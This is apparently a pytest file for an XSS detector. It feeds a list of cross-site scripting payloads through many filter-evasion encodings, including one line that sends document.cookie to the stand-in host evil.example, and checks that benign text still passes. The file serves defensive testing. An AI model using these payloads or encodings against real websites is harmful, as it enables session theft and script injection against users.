"""Hostile case B-117: script for a browser, under the codings that receivers undo."""

from __future__ import annotations

import html
from urllib.parse import quote

import pytest
from tests.support.codings import Coding, base64_of, hexadecimal_references, once, twice, wide
from tests.support.suspects import STOPS, Suspects

from vallum.inspection.detectors.xss import DETECTOR
from vallum.inspection.model import Content

SUSPECTS = Suspects(DETECTOR)
PAYLOADS = (
    "<svg/onload=alert(1)>",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    '" onfocus=alert(1) autofocus x="',
    "'-alert(document.domain)-'",
    "</script><script>alert(1)</script>",
    "javascript:alert(document.cookie)",
    '<iframe src="javascript:alert(1)">',
    "{{constructor.constructor('alert(1)')()}}",
    (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        'onerror=alert(1)&gt;">'
    ),
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
)


def _escapes(text: str) -> str:
    return "".join(letter if letter.isalnum() else f"\\u{ord(letter):04x}" for letter in text)


def _hexadecimal(text: str) -> str:
    return "".join(f"\\x{ord(letter):02x}" for letter in text)


def _zero_width(text: str) -> str:
    return "\u200b".join(text)


def _nulls(text: str) -> str:
    return "\0".join(text)


CODINGS: tuple[Coding, ...] = (
    str,
    quote,
    twice,
    html.escape,
    hexadecimal_references,
    _escapes,
    _hexadecimal,
    wide,
    _zero_width,
    _nulls,
    base64_of,
    lambda text: once(hexadecimal_references(text)),
    lambda text: _escapes(html.escape(text)),
    lambda text: base64_of(once(text)),
)


@pytest.mark.parametrize("coding", CODINGS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_b117_xss_enc(payload: str, coding: Coding) -> None:
    assert SUSPECTS.score(coding(payload)) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "&#x6a;avascript:alert(1)",
        "jaVasCript:alert(1)",
        "java&Tab;script&colon;alert(1)",
        "ja%0avascript:alert(1)",
        '<a href="jav&#x0A;ascript:alert(1)">x</a>',
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "%2BADw-svg onload=alert(1)+AD4-",
        "%uff1cscript%uff1ealert(1)%uff1c/script%uff1e",
        "¼script¾alert(1)¼/script¾",
        r"\u003csvg onload=alert(1)\u003e",
        "<sc\u00adript>alert(1)</sc\u00adript>",
        "%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be",
    ],
)
def test_b117_xss_enc_disguised(text: str) -> None:
    assert SUSPECTS.score(text) >= STOPS


@pytest.mark.parametrize("content", ["prose", "html", "markdown"])
@pytest.mark.parametrize("payload", [each for each in PAYLOADS if each.startswith("<")])
def test_b117_xss_enc_whatever_the_content(payload: str, content: Content) -> None:
    assert SUSPECTS.score(payload, content=content) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "R&amp;D at 5 &lt; 7",
        "100%25 of <b>you</b>",
        "Dear <name@example.com>, a < b and \\u00e9t\\u00e9",
        "SGVsbG8sIGhvdyBhcmUgeW91IHRvZGF5Pw==",
        "List&lt;String&gt; names",
    ],
)
def test_b117_coded_text_of_a_person_passes(text: str) -> None:
    assert SUSPECTS.score(text) < STOPS


def test_b117_escaped_examples_pass_in_rich_text() -> None:
    text = "<p>Never print <code>&lt;script&gt;alert(1)&lt;/script&gt;</code>.</p>"

    assert SUSPECTS.score(text, content="html") < STOPS
